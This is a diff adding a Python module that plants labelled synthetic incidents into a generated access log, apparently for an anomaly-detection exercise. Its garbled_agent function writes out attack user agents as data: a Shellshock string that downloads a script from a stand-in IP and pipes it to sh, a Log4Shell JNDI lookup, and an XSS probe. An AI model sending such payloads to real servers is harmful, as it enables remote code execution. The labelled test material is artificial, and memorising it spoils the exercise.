@@ -1,0 +1,250 @@
+"""The planted incidents of the sample log: the events that do not belong, and their kinds."""
+
+from collections.abc import Callable
+from dataclasses import dataclass
+from datetime import datetime, timedelta
+from ipaddress import ip_address
+from typing import Any
+
+import numpy as np
+import pyarrow as pa
+import pyarrow.compute as pc
+
+from data.company import public_address, tables
+
+Row = dict[str, Any]
+
+PLAN = {
+    "password_spraying": (9, 14, 24, 55),
+    "strange_sign_in": (1, 2, 1, 3, 1),
+    "bulk_export": (5, 8, 13, 32),
+    "service_admin_call": (1, 2, 1, 1),
+    "garbled_agent": (1, 2, 1, 3),
+    "unseen_message": (1, 1, 2, 1),
+}
+"""Kind -> events of each of its incidents, in a log of at least 200,000."""
+
+_PEOPLE = ~pc.starts_with(pc.field("user"), "svc-")
+
+
+@dataclass(frozen=True)
+class Scene:
+    """Where an incident is planted."""
+
+    ordinary: pa.Table
+    """The ordinary events, in no order."""
+    first_day: datetime
+    days: int
+    rng: np.random.Generator
+
+
+@dataclass(frozen=True)
+class Planted:
+    """The planted events, each with its incident and its kind."""
+
+    rows: list[Row]
+    incidents: list[str]
+    kinds: list[str]
+
+
+LABELS = pa.schema({"event_id": pa.string(), "incident_id": pa.string(), "kind": pa.string()})
+
+
+def plan(rows: int) -> dict[str, list[int]]:
+    """Say how many events each incident has in a log of `rows`; a short log has short incidents."""
+    scale = min(1.0, rows / 200_000)
+    return {
+        kind: [max(min(size, 4), round(size * scale)) for size in sizes]
+        for kind, sizes in PLAN.items()
+    }
+
+
+def plant(scene: Scene, incidents: dict[str, list[int]]) -> Planted:
+    """Draw the incidents, by kind and size."""
+    planted = Planted([], [], [])
+    for kind, sizes in incidents.items():
+        for turn, size in enumerate(sizes):
+            planted.rows.extend(_KINDS[kind](scene, turn, size))
+            planted.incidents.extend([f"{kind}-{turn + 1}"] * size)
+            planted.kinds.extend([kind] * size)
+    return planted
+
+
+def mixed(ordinary: pa.Table, planted: Planted) -> tuple[pa.Table, pa.Table]:
+    """Put all events in the order of time and name them so that ids tell nothing; label them."""
+    both = pa.concat_tables([ordinary, pa.Table.from_pylist(planted.rows, schema=ordinary.schema)])
+    order = pc.sort_indices(both["timestamp"]).to_numpy()
+    ids = pa.array([f"evt-{number:07d}" for number in range(1, len(both) + 1)])
+    events = both.take(order).add_column(0, "event_id", ids)
+    places = np.argsort(order)[len(ordinary) :]
+    return events, pa.table([ids.take(places), planted.incidents, planted.kinds], schema=LABELS)
+
+
+def password_spraying(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Try a password on many people from one address within minutes; the third one gets in."""
+    rng = scene.rng
+    agents = (
+        *("python-requests/2.31.0", "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101"),
+        *(tables()["agents"]["browsers"][0][1], "Go-http-client/2.0"),
+    )
+    address, when = _outside(rng), _at(scene, rng.uniform(0, 23.5))
+    users = pc.unique(scene.ordinary.filter(_PEOPLE)["user"]).to_pylist()
+    events = []
+    for user in rng.choice(users, size, replace=False):
+        when += timedelta(seconds=rng.exponential(9) + 1)
+        event = _one(scene, pc.field("user") == user) | {
+            "timestamp": when,
+            "host": None,
+            "source_ip": address,
+            "user_agent": agents[turn % 4],
+            "action": "sign_in",
+            "resource": "/auth/vpn",
+            "status": "failure",
+            "bytes": int(rng.lognormal(7.4, 0.2)),
+            "duration_ms": round(rng.lognormal(5, 0.3), 1),
+            "message": f"password mismatch for {user} from {address}",
+        }
+        events.append(event)
+    if turn == 2:
+        events[-1] |= {"status": "success", "message": f"signed in as {user} from {address}"}
+    return events
+
+
+def strange_sign_in(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Sign somebody in deep in the night from a host and a place that are new to them."""
+    rng = scene.rng
+    european = _PEOPLE & (pc.hour(pc.field("timestamp")) < 11)
+    user = _one(scene, european)["user"]
+    signing_in = european & (pc.field("action") == "sign_in")
+    theirs = signing_in & (pc.field("user") != user) & pc.starts_with(pc.field("host"), "lt-")
+    other = _one(scene, theirs)
+    hosts = ("DESKTOP-7QK2M1P", "kali", other["host"], "android-5f0c11d2", "WIN-9T3VJ0A")
+    address, when = _outside(rng), _at(scene, rng.uniform(1.5, 4.5))
+    event = _one(scene, pc.field("user") == user) | {
+        "timestamp": when,
+        "host": hosts[turn % 5],
+        "source_ip": address,
+        "user_agent": other["user_agent"],
+        "action": "sign_in",
+        "resource": "/auth/vpn",
+        "status": "success",
+        "bytes": int(rng.lognormal(7.5, 0.3)),
+        "duration_ms": round(rng.lognormal(5.4, 0.4), 1),
+        "message": f"signed in as {user} from {address}",
+    }
+    searching = {"action": "search", "resource": "/search/wiki", "bytes": 8_210, "message": None}
+    later = [timedelta(seconds=55.0 * place) for place in range(size)]
+    return [event | {"timestamp": when + wait} | (searching if wait else {}) for wait in later]
+
+
+def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Let somebody fetch big exports in a row, each far above what they ever fetched."""
+    rng = scene.rng
+    action, resource, message = (
+        (
+            "get_object",
+            "/buckets/harbor/exports/customers-{:03d}.csv",
+            "served {} bytes, etag {:08x}",
+        ),
+        ("export_report", "/warehouse/finance/ledger_{:03d}", "exported {} bytes, report {:08x}"),
+    )[turn % 2]
+    done = (pc.field("action") == action) & (pc.field("status") == "success")
+    model = _one(scene, _PEOPLE & done)
+    own = scene.ordinary.filter(pc.field("user") == model["user"])["bytes"]
+    most = max(pc.max(own).as_py(), 2_000_000)
+    when = _at(scene, rng.uniform(9, 21))
+    events = []
+    for place in range(size):
+        when += timedelta(seconds=rng.exponential(40) + 5)
+        fetched = int(most * rng.uniform(5, 40))
+        event = model | {
+            "timestamp": when,
+            "resource": resource.format(place + 1),
+            "bytes": fetched,
+            "duration_ms": round(fetched / 2e4, 1),
+            "message": message.format(fetched, rng.integers(1 << 32)),
+        }
+        events.append(event)
+    return events
+
+
+def service_admin_call(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Let a service account make an administrator's call, which it never did before."""
+    rng = scene.rng
+    service = ("svc-thumbnails", "svc-dashboards", "svc-mail", "svc-etl-web")[turn % 4]
+    action = ("attach_policy", "disable_mfa", "update_trust_policy", "create_user")[turn % 4]
+    spec, resource = tables()["actions"][action], ("/iam/roles/harbor", "/iam/users/root")[turn % 2]
+    model = _one(scene, (pc.field("user") == service) & (pc.field("status") == "success"))
+    message = tables()["messages"][action][0]
+    events = []
+    for _ in range(size):
+        filled = message.format(user=service, number=rng.integers(100, 9_000), resource=resource)
+        events.append(
+            _moved(scene, model, rng.uniform(1, 300))
+            | {
+                "action": action,
+                "resource": resource,
+                "bytes": int(spec["bytes"][0] * rng.uniform(0.6, 1.6)),
+                "duration_ms": round(spec["ms"] * rng.uniform(0.5, 2), 1),
+                "message": filled,
+            }
+        )
+    return events
+
+
+def garbled_agent(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Give an otherwise ordinary call a user agent that is an attack, a scanner or rubbish."""
+    agents = (
+        "() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.23/a.sh | sh'",
+        "sqlmap/1.8.4#stable (https://sqlmap.org)",
+        "Mozi\x07\x1b\ufffd\ufffd\x02/\x11\ufffd5.\x7f(\ufffd\ufffd\x0e",
+        "${jndi:ldap://203.0.113.66:1389/Basic/Command}<script>alert(1)</script>",
+    )
+    model = _one(scene, _PEOPLE)
+    waits = 45.0 * np.arange(size)
+    return [_moved(scene, model, wait) | {"user_agent": agents[turn % 4]} for wait in waits]
+
+
+def unseen_message(scene: Scene, turn: int, size: int) -> list[Row]:
+    """Let an otherwise ordinary call leave a message of a kind that was never there before."""
+    messages = (
+        "audit log truncated by uid 0 at offset 81920",
+        "policy engine unreachable, falling back to permissive mode",
+        "segfault at 7f3a ip 00005581 sp 00007ffd error 4 in authd",
+        "signature check skipped: unsigned module /dev/shm/.k loaded",
+    )
+    model = _one(scene, pc.field("status") == "success")
+    waits = 20.0 * np.arange(size)
+    return [_moved(scene, model, wait) | {"message": messages[turn % 4]} for wait in waits]
+
+
+_KINDS: dict[str, Callable[[Scene, int, int], list[Row]]] = {
+    "password_spraying": password_spraying,
+    "strange_sign_in": strange_sign_in,
+    "bulk_export": bulk_export,
+    "service_admin_call": service_admin_call,
+    "garbled_agent": garbled_agent,
+    "unseen_message": unseen_message,
+}
+
+
+def _one(scene: Scene, which: Any) -> Row:
+    """Take one of the ordinary events that answer to `which`."""
+    those = scene.ordinary.filter(which)
+    return those.slice(int(scene.rng.integers(len(those))), 1).to_pylist()[0]
+
+
+def _at(scene: Scene, hour: float) -> datetime:
+    """Find the hour on some working day."""
+    working = [day for day in range(scene.days) if day % 7 < 5]
+    return scene.first_day + timedelta(days=int(scene.rng.choice(working)), hours=hour)
+
+
+def _moved(scene: Scene, event: Row, seconds: float) -> Row:
+    """Repeat an event a little later, but on a day of the log."""
+    last = scene.first_day + timedelta(days=scene.days, seconds=-1)
+    return event | {"timestamp": min(event["timestamp"] + timedelta(seconds=seconds), last)}
+
+
+def _outside(rng: np.random.Generator) -> str:
+    return str(ip_address(int(public_address(rng, 1)[0])))
